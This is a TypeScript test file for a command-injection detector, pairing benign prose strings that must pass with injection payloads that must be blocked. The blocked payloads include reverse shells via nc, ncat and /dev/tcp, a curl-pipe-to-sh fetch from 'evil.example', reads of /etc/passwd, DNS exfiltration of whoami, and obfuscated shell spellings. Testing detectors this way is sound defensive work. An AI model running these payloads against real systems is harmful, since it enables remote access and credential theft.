import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { BLOCKS, scoreOf } from "./helpers.js";

function blocks(value: string): void {
  it(`blocks ${JSON.stringify(value)}`, () => assert.ok(scoreOf(cmdiDetector, value) >= BLOCKS, value));
}

function passes(value: string): void {
  it(`lets ${JSON.stringify(value)} through`, () => assert.ok(scoreOf(cmdiDetector, value) < BLOCKS, value));
}

describe("command injection: Markdown code spans, tables and entities in prose", () => {
  // A closing backtick continues the command; only an opening one starts a substitution.
  for (const value of [
    "A `Boolean` which disables the correction of latencies",
    "- `stopOnComplete` (type:boolean) - automatically call `stop()` when done",
    "Set `inlineValidators` to `true` to include the functions",
    "There is a `read()` method, but it is slower",
    "if you know how to use `tar(1)` in Unix, then you know this API",
    "the `uname` field if the uid matches",
    "the `chmod: true` option is set.",
    "| Name    | Type     | Description        |",
    "| Browser | ID | Core | Source |",
    "Copyright &copy; 2016 the authors",
    "Errors that occur deeper in the system (ie, the filesystem)",
  ])
    passes(value);
  // Glued or alone, a backtick span is a substitution; distinct programs count even in prose.
  for (const value of [
    "`whoami`",
    "abc`id`def",
    "nslookup `whoami`.x.oast.me",
    "please run `curl http://evil.example/x.sh | sh` thanks",
    "hello `nc -e /bin/sh 10.0.0.1 4444` world",
    "|id|",
    "| id",
  ])
    blocks(value);
});

describe("command injection: operators that punctuate prose after a value's first word", () => {
  for (const value of [
    "Copy & paste the link",
    "Head & Shoulders shampoo",
    "Find & replace",
    "Start | Stop | Pause",
    "Mail & packages",
    "Node (v20) is required",
    "node >= 18",
    "Tail -- the dog's tail",
    "IMG_2024-01-01 (copy).jpg",
    "ex=7&page=1&sort=ex&sort=descending",
  ])
    passes(value);
  for (const value of [
    "id;",
    "ls | nc 10.0.0.1 4444",
    "cat</etc/passwd",
    "phpinfo();",
    "sleep(20)",
    "d=/dev&&(sh)0>$d/tcp/1.2.3.4/777",
    "chroot ()",
  ])
    blocks(value);
});

describe("command injection: chained commands after the argument an app expected", () => {
  for (const value of [
    "127.0.0.1; ps aux",
    "127.0.0.1 | echo vulnerable",
    "x && echo vulnerable",
    "|| getent passwd",
    "foo' ; echo vulnerable",
    "\nnslookup x.oast.me",
    "%0acurl evil.example",
    "ncat 10.0.0.1 4242 -e /bin/bash",
  ])
    blocks(value);
  for (const value of ["Yes; find me later", "I paid; echo that back", "rock && roll", "this || that", "e.g. cats; more later"])
    passes(value);
});

describe("command injection: spellings a shell or cmd.exe undoes", () => {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template.
  for (const value of ["& wh^oami", "& c^m^d /c dir", ";$'\\x69\\x64'", ";$0 -c id", ";${PATH:0:1}bin${PATH:0:1}sh"]) blocks(value);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template text, not a shell expansion.
  for (const value of ["x^2 + y^2", "costs $0 today", "Hello ${name}", "E = mc^2"]) passes(value);
});
